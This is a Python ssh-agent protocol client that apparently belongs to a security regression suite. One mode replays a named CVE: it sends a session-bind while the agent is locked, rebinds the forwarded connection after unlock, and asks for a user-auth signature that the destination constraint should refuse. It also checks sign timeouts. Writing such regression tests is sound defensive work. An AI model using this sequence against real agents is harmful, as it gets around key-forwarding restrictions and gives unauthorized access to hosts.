#!/usr/bin/python3
"""A client of the ssh-agent protocol for the security regress tests.

  agentclient.py lock-bind SOCKET HOSTKEY1 HOSTKEY2 USERKEY.pub

      SOCKET is an agent holding USERKEY with a destination constraint
      that permits it only for authentication from this host to the host
      of HOSTKEY2 (ssh-add -h).  HOSTKEY1 and HOSTKEY2 are private host
      keys (ed25519, OpenSSH format) this script signs session-binds with.
      Plays CVE-2026-73281:

        lock the agent (its own connection);
        on connection A: the "query" extension, then a session-bind to
          host 1 marked as forwarded (ssh's agent forwarding to host 1,
          opened while the agent is locked);
        unlock the agent (connection B);
        on A, as host 1 could once the agent is unlocked: a session-bind
          to host 2 for authentication, then a signature of a userauth
          request to host 2 with USERKEY, which the constraint permits
          only from this host, not through host 1;
        control, connection C: a session-bind to host 2 and the same
          signature directly, which the constraint permits.

      Prints one line:
        RESULT query_locked=ok|fail bind_locked=ok|fail
               sign_via_host1=signed|refused sign_direct=signed|refused
      and exits 0; exits 1 with a message when the agent misbehaves
      otherwise (a reply of the wrong kind, no reply).

  agentclient.py sign-user SOCKET HOSTKEY USERKEY.pub USER

      SOCKET is an agent holding USERKEY with a destination constraint to
      the host of HOSTKEY (ssh-add -h, with a user pattern).  Binds a
      connection to a session with that host, then asks for a signature
      of a userauth request for USER, waiting SIGN_TIMEOUT seconds for the
      answer.  Prints "RESULT sign=signed|refused|timeout seconds=S".

Every read is bounded (TIMEOUT).
"""

import base64
import os
import signal
import socket
import struct
import sys
import time

import paramiko

TIMEOUT = 30

SSH_AGENT_FAILURE = 5
SSH_AGENT_SUCCESS = 6
SSH2_AGENTC_SIGN_REQUEST = 13
SSH2_AGENT_SIGN_RESPONSE = 14
SSH_AGENTC_LOCK = 22
SSH_AGENTC_UNLOCK = 23
SSH_AGENTC_EXTENSION = 27
SSH_AGENT_EXTENSION_FAILURE = 28
SSH2_MSG_USERAUTH_REQUEST = 50

PASSPHRASE = b"sec-73281"


def sshstr(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack(">I", len(b)) + b


class Agent:
    def __init__(self, path):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(TIMEOUT)
        self.s.connect(path)

    def _read(self, n):
        buf = b""
        while len(buf) < n:
            d = self.s.recv(n - len(buf))
            if not d:
                raise EOFError("agent closed the connection")
            buf += d
        return buf

    def request(self, mtype, payload=b""):
        msg = bytes([mtype]) + payload
        self.s.sendall(struct.pack(">I", len(msg)) + msg)
        n = struct.unpack(">I", self._read(4))[0]
        if n == 0 or n > 256 * 1024:
            raise ValueError("bad reply length %d" % n)
        reply = self._read(n)
        return reply[0]

    def close(self):
        self.s.close()


def status(reply, what):
    """ok for SUCCESS, fail for either failure code; anything else is an error."""
    if reply == SSH_AGENT_SUCCESS:
        return "ok"
    if reply in (SSH_AGENT_FAILURE, SSH_AGENT_EXTENSION_FAILURE):
        return "fail"
    sys.exit("agentclient: %s: unexpected reply type %d" % (what, reply))


def session_bind(agent, hostkey, sid, forwarded):
    sig = hostkey.sign_ssh_data(sid).asbytes()
    payload = (sshstr("session-bind@openssh.com") +
               sshstr(hostkey.asbytes()) + sshstr(sid) + sshstr(sig) +
               bytes([1 if forwarded else 0]))
    return agent.request(SSH_AGENTC_EXTENSION, payload)


def sign_userauth(agent, userblob, usertype, sid, hostkey, user="root"):
    """Ask for a signature of a publickey-hostbound userauth request."""
    data = (sshstr(sid) + bytes([SSH2_MSG_USERAUTH_REQUEST]) +
            sshstr(user) + sshstr("ssh-connection") +
            sshstr("publickey-hostbound-v00@openssh.com") + bytes([1]) +
            sshstr(usertype) + sshstr(userblob) + sshstr(hostkey.asbytes()))
    reply = agent.request(SSH2_AGENTC_SIGN_REQUEST,
                          sshstr(userblob) + sshstr(data) +
                          struct.pack(">I", 0))
    if reply == SSH2_AGENT_SIGN_RESPONSE:
        return "signed"
    if reply == SSH_AGENT_FAILURE:
        return "refused"
    sys.exit("agentclient: sign: unexpected reply type %d" % reply)


def lock_bind(path, hk1_path, hk2_path, userpub):
    hk1 = paramiko.Ed25519Key(filename=hk1_path)
    hk2 = paramiko.Ed25519Key(filename=hk2_path)
    with open(userpub) as f:
        fields = f.read().split()
    usertype, userblob = fields[0], base64.b64decode(fields[1])

    locker = Agent(path)
    if status(locker.request(SSH_AGENTC_LOCK, sshstr(PASSPHRASE)),
              "lock") != "ok":
        sys.exit("agentclient: the agent refused to lock")

    a = Agent(path)
    query_locked = status(a.request(SSH_AGENTC_EXTENSION, sshstr("query")),
                          "query while locked")
    bind_locked = status(session_bind(a, hk1, os.urandom(32), True),
                         "session-bind while locked")

    b = Agent(path)
    if status(b.request(SSH_AGENTC_UNLOCK, sshstr(PASSPHRASE)),
              "unlock") != "ok":
        sys.exit("agentclient: the agent refused to unlock")

    # Host 1, now holding connection A, binds it to a session of its own
    # with host 2 (whose signature of that session it has) and asks for
    # a signature to log in there.
    sid2 = os.urandom(32)
    if status(session_bind(a, hk2, sid2, False), "session-bind on A") != "ok":
        sys.exit("agentclient: the agent refused a valid session-bind on A")
    via = sign_userauth(a, userblob, usertype, sid2, hk2)

    c = Agent(path)
    sid3 = os.urandom(32)
    if status(session_bind(c, hk2, sid3, False), "session-bind on C") != "ok":
        sys.exit("agentclient: the agent refused a valid session-bind on C")
    direct = sign_userauth(c, userblob, usertype, sid3, hk2)

    for x in (locker, a, b, c):
        x.close()
    print("RESULT query_locked=%s bind_locked=%s sign_via_host1=%s "
          "sign_direct=%s" % (query_locked, bind_locked, via, direct),
          flush=True)


SIGN_TIMEOUT = 5


def sign_user(path, hk_path, userpub, user):
    hk = paramiko.Ed25519Key(filename=hk_path)
    with open(userpub) as f:
        fields = f.read().split()
    usertype, userblob = fields[0], base64.b64decode(fields[1])
    a = Agent(path)
    sid = os.urandom(32)
    if status(session_bind(a, hk, sid, False), "session-bind") != "ok":
        sys.exit("agentclient: the agent refused a valid session-bind")
    a.s.settimeout(SIGN_TIMEOUT)
    t0 = time.monotonic()
    try:
        res = sign_userauth(a, userblob, usertype, sid, hk, user)
    except socket.timeout:
        res = "timeout"
    a.close()
    print("RESULT sign=%s seconds=%.1f" % (res, time.monotonic() - t0),
          flush=True)


def main():
    signal.alarm(TIMEOUT * 4)
    if len(sys.argv) == 6 and sys.argv[1] == "lock-bind":
        lock_bind(*sys.argv[2:])
    elif len(sys.argv) == 6 and sys.argv[1] == "sign-user":
        sign_user(*sys.argv[2:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
